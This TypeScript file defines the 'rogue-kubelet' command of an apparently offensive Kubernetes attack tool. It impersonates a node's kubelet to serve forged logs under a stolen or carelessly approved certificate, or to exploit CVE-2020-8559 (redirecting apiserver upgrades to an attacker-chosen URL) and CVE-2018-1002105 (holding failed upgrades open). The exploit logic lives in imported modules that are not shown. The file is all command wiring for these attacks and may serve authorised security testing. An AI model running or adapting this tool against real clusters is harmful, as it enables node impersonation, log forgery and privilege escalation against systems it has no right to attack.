// `hubspoke-attacker rogue-kubelet`: answer where the apiserver dials a node, in one of three modes:
// `rogue-node` (forged logs under a stolen or carelessly approved cluster-signed certificate), `redirect`
// (CVE-2020-8559: 302 every upgrade to --redirect-to) and `failed-upgrade` (CVE-2018-1002105: refuse every
// upgrade and hold the connection open). Runs until interrupted; every connection and request is logged (stderr).
import { readFile } from 'node:fs/promises';
import { Command, InvalidArgumentError, Option } from 'commander';
import { pino } from 'pino';
import { createSelfSignedServingCert } from '@hubspoke/pki';
import { startMaliciousKubelet } from '../redirect/redirect-kubelet.ts';
import type { RogueKubelet } from '../rogue-node/rogue-kubelet.ts';
import { DEFAULT_FORGED_LOG, startRogueNode } from '../rogue-node/rogue-node.ts';
import { parseTarget } from '../scan/target.ts';

type RogueMode = 'rogue-node' | 'redirect' | 'failed-upgrade';

interface RogueKubeletFlags {
  mode: RogueMode;
  listen: { host: string; port: number };
  tlsCertFile?: string;
  tlsPrivateKeyFile?: string;
  forgedLog: string;
  redirectTo?: string;
  status: number;
  logLevel: string;
}

/** Adds the `rogue-kubelet` subcommand to `program`; returns the subcommand. */
export function addRogueKubeletCommand(program: Command): Command {
  return program
    .command('rogue-kubelet')
    .description('Answer for a node’s kubelet address: forged logs (rogue-node), redirected upgrades (redirect) or failed upgrades held open (failed-upgrade).')
    .addOption(new Option('--mode <mode>', 'what to answer').choices(['rogue-node', 'redirect', 'failed-upgrade']).makeOptionMandatory())
    .requiredOption('--listen <host:port>', 'the address the apiserver dials for the victim node', listenAddress)
    .option('--tls-cert-file <file>', 'serving certificate chain (PEM); rogue-node needs one the cluster CA signed (default: self-signed)')
    .option('--tls-private-key-file <file>', 'key of --tls-cert-file (PEM)')
    .option('--forged-log <text>', 'rogue-node: the log text returned for any container', DEFAULT_FORGED_LOG)
    .option('--redirect-to <url>', 'redirect: where upgrades are sent (e.g. another node’s kubelet, or a listener of yours)')
    .option('--status <code>', 'failed-upgrade: the status answered', statusCode, 403)
    .option('--log-level <level>', 'pino level of the logs (stderr)', 'info')
    .action(async (flags: RogueKubeletFlags, command: Command) => {
      if (Boolean(flags.tlsCertFile) !== Boolean(flags.tlsPrivateKeyFile)) command.error('error: --tls-cert-file and --tls-private-key-file go together');
      if (flags.mode === 'redirect' && !flags.redirectTo) command.error('error: --mode redirect needs --redirect-to');
      const read = (file: string, flag: string): Promise<string> =>
        readFile(file, 'utf8').catch((err: Error) => command.error(`error: cannot read ${flag} ${file}: ${err.message}`));
      const tls = flags.tlsCertFile
        ? { cert: await read(flags.tlsCertFile, '--tls-cert-file'), key: await read(flags.tlsPrivateKeyFile!, '--tls-private-key-file') }
        : await createSelfSignedServingCert({ host: flags.listen.host });
      const logger = pino({ level: flags.logLevel }, pino.destination(2));
      const kubelet: RogueKubelet =
        flags.mode === 'rogue-node'
          ? await startRogueNode({ listen: flags.listen, tls, forgedLog: flags.forgedLog, logger })
          : await startMaliciousKubelet({
              listen: flags.listen,
              tls,
              mode: flags.mode === 'redirect' ? { kind: 'redirect', location: flags.redirectTo! } : { kind: 'failed-upgrade', status: flags.status },
              logger,
            });
      logger.info({ mode: flags.mode, host: kubelet.host, port: kubelet.port }, 'rogue kubelet listening');
      await new Promise<void>((resolve) => {
        process.once('SIGINT', resolve);
        process.once('SIGTERM', resolve);
      });
      await kubelet.close();
    });
}

// host:port as the scanner reads targets, plus port 0 (any free port, reported in the listening log line).
function listenAddress(value: string): { host: string; port: number } {
  try {
    return value.endsWith(':0') ? { host: parseTarget(`${value.slice(0, -2)}:1`).host, port: 0 } : parseTarget(value);
  } catch (err) {
    throw new InvalidArgumentError((err as Error).message.replace(':1"', ':0"'));
  }
}

function statusCode(value: string): number {
  const n = Number(value);
  if (!/^\d{3}$/.test(value) || n === 101 || n < 200) throw new InvalidArgumentError('not an HTTP status other than 1xx');
  return n;
}
